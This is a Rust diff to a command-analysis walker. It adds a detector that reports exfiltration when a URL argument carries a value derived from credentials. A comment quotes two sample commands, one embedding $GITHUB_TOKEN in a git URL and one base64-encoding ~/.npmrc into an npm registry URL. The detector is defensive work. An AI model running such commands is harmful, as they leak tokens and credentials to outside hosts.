@@ -1664,6 +1664,16 @@ impl<'c> Walker<'c> {
         }
         if info.flow.sends && expanded.iter().flatten().any(|e| e.unknown.secret) {
             self.exfiltration("a value derived from credentials is given to");
+        } else if !entry.is(kind::TEXT_ONLY)
+            && words.iter().zip(expanded).any(|(w, e)| {
+                // `git ls-remote "https://$GITHUB_TOKEN@e"`, `npm view x --registry
+                // "https://e/$(cat ~/.npmrc | base64)"`: a URL carrying a credential, whoever
+                // is given it.
+                e.as_ref().is_some_and(|e| e.unknown.secret)
+                    && (w.text.contains("://") || w.text.contains('@') && w.text.contains(':'))
+            })
+        {
+            self.exfiltration("a URL carrying a credential is given to");
         }
     }
 
